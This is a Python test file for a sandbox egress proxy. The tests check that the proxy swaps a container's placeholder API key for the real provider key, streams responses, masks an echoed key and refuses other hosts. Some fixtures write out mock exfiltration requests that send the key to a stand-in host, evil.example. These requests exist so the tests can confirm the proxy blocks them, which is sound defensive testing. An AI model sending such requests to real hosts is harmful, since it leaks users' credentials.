"""The egress proxy's reverse mode for a key-mode member (sandbox/provider_key.py), with real sockets: a
request to the bridge goes to the member's provider with the real key in place of the container's
placeholder; bodies and streamed responses pass through; every other host is still refused and logged
without its path. The same proxy seen from inside a member's container is tests/security/test_cli_keys.py.
"""

from __future__ import annotations

import logging
import socket
import ssl
from collections.abc import AsyncIterator
from pathlib import Path

import anyio
import anyio.abc
import anyio.from_thread
import anyio.streams.tls
import pytest

from conclave.clis.cli_adapter import PLACEHOLDER_KEY
from conclave.sandbox.allowlist import allowlist_for
from conclave.sandbox.egress import EgressProxy, egress_proxy
from conclave.sandbox.provider_key import KeyScrubber, ProviderKey
from conclave.sandbox.route import DirectRoute
from tests.fakes.redirect import ProviderRedirect
from tests.fakes.tls_ca import TestCa
from tests.test_egress import ask, connected

pytestmark = pytest.mark.anyio
KEY = "sk-real-0123456789-abcdefghij"
STREAMED = [b"event: one\n\n", b"event: two\n\n", b"event: three\n\n"]


class Provider:
    """A provider on 127.0.0.1: records each request's head and body (by Content-Length), answers with
    its name, or with `STREAMED` chunk by chunk, each only once the test has read the one before."""

    def __init__(self) -> None:
        self.port = 0
        self.heads: list[bytes] = []
        self.bodies: list[bytes] = []
        self.read = [anyio.Event() for _ in STREAMED]  # set by the test as it reads each chunk

    async def handle(self, stream: anyio.abc.ByteStream) -> None:
        async with stream:
            data = b""
            while b"\r\n\r\n" not in data:
                data += await stream.receive()
            head, _, body = data.partition(b"\r\n\r\n")
            self.heads.append(head)
            length = next(
                (
                    int(line.split(b":")[1])
                    for line in head.split(b"\r\n")
                    if line.lower().startswith(b"content-length:")
                ),
                0,
            )
            while len(body) < length:
                body += await stream.receive()
            self.bodies.append(body)
            if b"echo=1" in head.split(b"\r\n")[0]:  # a gateway quoting the key it got, split in two chunks
                echo = [b"you sent " + KEY[:10].encode(), KEY[10:].encode() + b" ok"]
                size = sum(map(len, echo))
                await stream.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (size, echo[0]))
                await anyio.sleep(0.2)  # sleep-ok: the halves of the key reach the proxy apart
                await stream.send(echo[1])
                return
            if b"stream=1" not in head.split(b"\r\n")[0]:
                reply = b"from provider"
                await stream.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(reply), reply))
                return
            await stream.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n")
            for chunk, read in zip(STREAMED, self.read, strict=True):
                await stream.send(chunk)
                with anyio.fail_after(10):  # a proxy that held the chunk back never lets the test read it
                    await read.wait()


@pytest.fixture
async def provider() -> AsyncIterator[Provider]:
    found = Provider()
    async with anyio.create_task_group() as group:
        listener = await anyio.create_tcp_listener(local_host="127.0.0.1")
        found.port = listener.extra(anyio.abc.SocketAttribute.local_port)
        group.start_soon(listener.serve, found.handle)
        yield found
        group.cancel_scope.cancel()


async def quiet(proxy: EgressProxy) -> None:
    """Until the proxy has finished with every connection. Closing it while a connection's copy waits on
    a client socket that the test's thread has just closed races inside anyio's asyncio streams (the
    cancelled wait's reader fires before its done-callback removes it: an InvalidStateError in the loop,
    seen once in CI), so each test lets its exchanges end first, as a client would."""
    with anyio.fail_after(10):
        while proxy.open_connections:
            await anyio.sleep(0.01)


def _header(head: bytes, name: bytes) -> bytes:
    return next(
        line.split(b":", 1)[1].strip() for line in head.split(b"\r\n") if line.lower().startswith(name + b":")
    )


@pytest.mark.parametrize("form", ["origin", "absolute", "tunnel"])
async def test_a_request_to_the_bridge_reaches_the_provider_with_the_real_key(
    tmp_path: Path, provider: Provider, form: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    url = f"http://127.0.0.1:{provider.port}/gw"
    target = "/gw/v1/messages?alt=sse&key=" + PLACEHOLDER_KEY
    if form == "absolute":  # a client that sends everything through HTTP_PROXY names the bridge itself
        target = "http://127.0.0.1:3128" + target
    tunnel = "CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n" if form == "tunnel" else ""  # Node's fetch does this
    request = tunnel + (
        f"POST {target} HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nx-api-key: {PLACEHOLDER_KEY}\r\n"
        f"Authorization: Bearer {PLACEHOLDER_KEY}\r\nx-goog-api-key: {PLACEHOLDER_KEY}\r\n"
        f"api-key: {PLACEHOLDER_KEY}\r\nanthropic-version: 2023-06-01\r\nConnection: keep-alive\r\n"
        "Accept-Encoding: gzip, br\r\n"
        "Content-Length: 2\r\n\r\n{}"
    )
    async with egress_proxy(allowlist_for("claude-code", base_url=url), route=DirectRoute()) as proxy:
        proxy.serve_key(ProviderKey(url, KEY, "anthropic"))
        reply = await ask(proxy, request.encode())
        await quiet(proxy)
    assert reply.startswith(b"HTTP/1.1 200") and reply.endswith(b"from provider")
    assert reply.startswith(b"HTTP/1.1 200 Connection Established\r\n\r\nHTTP/1.1 200 OK") == bool(tunnel)
    (head,) = provider.heads
    assert head.startswith(f"POST /gw/v1/messages?alt=sse&key={KEY} HTTP/1.1\r\n".encode()), head
    assert _header(head, b"host") == f"127.0.0.1:{provider.port}".encode()
    assert _header(head, b"x-api-key") == KEY.encode() and _header(head, b"x-goog-api-key") == KEY.encode()
    assert (
        _header(head, b"authorization") == f"Bearer {KEY}".encode()
        and _header(head, b"api-key") == KEY.encode()
    )
    assert _header(head, b"anthropic-version") == b"2023-06-01" and _header(head, b"connection") == b"close"
    assert PLACEHOLDER_KEY.encode() not in head and b"keep-alive" not in head
    assert b"accept-encoding" not in head.lower(), "an uncompressed response, where an echoed key shows"
    assert provider.bodies == [b"{}"] and proxy.admitted == 1 and proxy.denied == []
    assert KEY not in caplog.text


async def test_a_large_request_body_reaches_the_provider_whole(tmp_path: Path, provider: Provider) -> None:
    url = f"http://127.0.0.1:{provider.port}"
    body = bytes(range(256)) * (24 * 1024)  # 6 MB, far past any buffer of the proxy's
    head = (
        f"POST /v1/responses HTTP/1.1\r\nAuthorization: Bearer {PLACEHOLDER_KEY}\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    )
    async with egress_proxy(allowlist_for("codex", base_url=url), route=DirectRoute()) as proxy:
        proxy.serve_key(ProviderKey(url + "/v1", KEY, "openai"))
        reply = await ask(proxy, head.encode() + body)
        await quiet(proxy)
    assert reply.endswith(b"from provider") and provider.bodies == [body]
    assert _header(provider.heads[0], b"authorization") == f"Bearer {KEY}".encode()


async def test_a_streamed_response_passes_through_chunk_by_chunk(tmp_path: Path, provider: Provider) -> None:
    """The provider sends each chunk only once the test has read the one before through the proxy: a
    proxy that waited for the whole response would stall it (and fail the test within seconds)."""
    url = f"http://127.0.0.1:{provider.port}"
    request = (
        f"POST /v1/messages?stream=1 HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\nContent-Length: 0\r\n\r\n"
    )
    async with egress_proxy(allowlist_for("claude-code", base_url=url), route=DirectRoute()) as proxy:
        proxy.serve_key(ProviderKey(url, KEY, "anthropic"))
        with anyio.fail_after(20):
            async with connected(proxy) as client:
                received = await anyio.to_thread.run_sync(
                    _read_as_streamed, client, request.encode(), provider
                )
        await quiet(proxy)
    assert received.startswith(b"HTTP/1.1 200 OK") and received.endswith(b"".join(STREAMED))


async def test_a_key_echoed_in_the_response_is_masked_on_the_way_back(
    tmp_path: Path, provider: Provider
) -> None:
    """The key, echoed across two chunks of the response, reaches the container as `*`s of its length
    (the response's Content-Length still holds)."""
    url = f"http://127.0.0.1:{provider.port}"
    request = (
        f"POST /v1/messages?echo=1 HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\nContent-Length: 0\r\n\r\n"
    )
    async with egress_proxy(allowlist_for("claude-code", base_url=url), route=DirectRoute()) as proxy:
        proxy.serve_key(ProviderKey(url, KEY, "anthropic"))
        reply = await ask(proxy, request.encode())
        await quiet(proxy)
    assert _header(provider.heads[0], b"x-api-key") == KEY.encode()  # the provider got it
    assert KEY.encode() not in reply and reply.endswith(b"you sent " + b"*" * len(KEY) + b" ok"), reply


def _read_as_streamed(client: socket.socket, request: bytes, provider: Provider) -> bytes:
    """In a worker: send `request`, then read each streamed chunk and tell the provider it was read."""
    client.sendall(request)
    received = b""
    for chunk, read in zip(STREAMED, provider.read, strict=True):
        while not received.endswith(chunk):
            received += client.recv(65536)
        anyio.from_thread.run_sync(read.set)
    return received


@pytest.mark.parametrize("kind", ["connect", "http", "bridge-port-elsewhere"])
async def test_other_hosts_are_still_refused_and_logged_without_path_or_key(
    tmp_path: Path, provider: Provider, kind: str, caplog: pytest.LogCaptureFixture
) -> None:
    url = f"http://127.0.0.1:{provider.port}"
    credential = f"x-api-key: {PLACEHOLDER_KEY}\r\n\r\n"
    target = {
        "connect": "CONNECT evil.example:443 HTTP/1.1\r\n\r\n",
        "http": f"POST http://evil.example/steal?key={PLACEHOLDER_KEY} HTTP/1.1\r\n" + credential,
        "bridge-port-elsewhere": "GET http://evil.example:3128/steal HTTP/1.1\r\n" + credential,
    }[kind]
    caplog.set_level(logging.INFO, logger="conclave.sandbox.egress")
    async with egress_proxy(
        allowlist_for("claude-code", base_url=url), route=DirectRoute(), label="cj-1/A"
    ) as proxy:
        proxy.serve_key(ProviderKey(url, KEY, "anthropic"))
        reply = await ask(proxy, target.encode())
        await quiet(proxy)
    assert reply.startswith(b"HTTP/1.1 403 Forbidden") and KEY.encode() not in reply
    assert [(d.method, d.host) for d in proxy.denied] == [(target.split()[0], "evil.example")]
    assert proxy.admitted == 0 and provider.heads == []
    assert "refused" in caplog.text and "evil.example" in caplog.text
    assert "steal" not in caplog.text and KEY not in caplog.text and PLACEHOLDER_KEY not in caplog.text


async def test_a_tunnel_to_the_bridge_carries_only_a_request_to_the_bridge(
    tmp_path: Path, provider: Provider
) -> None:
    url = f"http://127.0.0.1:{provider.port}"
    inner = f"GET http://evil.example/ HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\n\r\n"
    async with egress_proxy(allowlist_for("claude-code", base_url=url), route=DirectRoute()) as proxy:
        proxy.serve_key(ProviderKey(url, KEY, "anthropic"))
        reply = await ask(proxy, b"CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n" + inner.encode())
        await quiet(proxy)
    assert reply.startswith(b"HTTP/1.1 200 Connection Established\r\n\r\nHTTP/1.1 400")
    assert provider.heads == [] and proxy.admitted == 0


async def test_without_a_key_held_a_request_to_the_bridge_is_refused(
    tmp_path: Path, provider: Provider
) -> None:
    """A plan login's proxy holds no key: the bridge is no way to reach anything."""
    async with egress_proxy(
        allowlist_for("claude-code", base_url=f"http://127.0.0.1:{provider.port}"), route=DirectRoute()
    ) as proxy:
        reply = await ask(proxy, b"POST /v1/messages HTTP/1.1\r\n\r\n")
        tunnel = await ask(proxy, b"CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n")
        await quiet(proxy)
    assert reply.startswith(b"HTTP/1.1 400") and tunnel.startswith(b"HTTP/1.1 403")
    assert provider.heads == [] and proxy.admitted == 0


async def test_an_https_provider_is_reached_over_tls_from_the_host(tmp_path: Path) -> None:
    """The official host over https: the proxy opens TLS itself, checking the certificate against the
    name (here through the tests' redirect, tests/fakes/redirect.py, whose extra CA joins the system's
    roots)."""
    ca = TestCa.create(tmp_path / "tls", ["api.anthropic.com"])
    provider = Provider()
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(ca.cert_file, ca.key_file)
    async with anyio.create_task_group() as group:
        listener = await anyio.create_tcp_listener(local_host="127.0.0.1")
        tls = anyio.streams.tls.TLSListener(listener, context, standard_compatible=False)
        port = listener.extra(anyio.abc.SocketAttribute.local_port)
        group.start_soon(tls.serve, provider.handle)
        redirect = ProviderRedirect({"api.anthropic.com": port}, ca.ca_file)
        request = f"POST /v1/messages HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\nContent-Length: 0\r\n\r\n"
        async with egress_proxy(allowlist_for("claude-code"), route=redirect) as proxy:
            proxy.serve_key(ProviderKey("https://api.anthropic.com", KEY, "anthropic"))
            reply = await ask(proxy, request.encode())
            wrong = await _wrong_name(proxy)
            await quiet(proxy)
        group.cancel_scope.cancel()
    assert reply.startswith(b"HTTP/1.1 200") and reply.endswith(b"from provider"), reply
    (head,) = provider.heads
    assert _header(head, b"host") == b"api.anthropic.com" and _header(head, b"x-api-key") == KEY.encode()
    assert wrong.startswith(b"HTTP/1.1 502"), "a certificate for another name is refused"


async def _wrong_name(proxy: EgressProxy) -> bytes:
    """The same fake answering for a name its certificate does not hold (the key goes nowhere)."""
    proxy.serve_key(ProviderKey("https://platform.claude.com", KEY, "anthropic"))
    redirect = proxy.route
    assert isinstance(redirect, ProviderRedirect)
    proxy.route = ProviderRedirect(
        {"platform.claude.com": redirect.ports["api.anthropic.com"]}, redirect.extra_ca
    )
    return await ask(proxy, f"POST /v1/messages HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\n\r\n".encode())


def test_the_scrubber_masks_a_key_split_anywhere_and_holds_back_nothing_else() -> None:
    text = b"data: {" + KEY.encode() + b"} and " + KEY.encode() + b"\n\n"
    for cut in range(len(text) + 1):
        scrubber = KeyScrubber(KEY)
        out = scrubber.feed(text[:cut]) + scrubber.feed(text[cut:]) + scrubber.flush()
        assert out == text.replace(KEY.encode(), b"*" * len(KEY)), cut
    scrubber = KeyScrubber(KEY)
    assert scrubber.feed(b"event: one\n\n") == b"event: one\n\n"  # an event passes at once
    assert (
        scrubber.feed(b"ends with sk") == b"ends with " and scrubber.flush() == b"sk"
    )  # a key's start waits
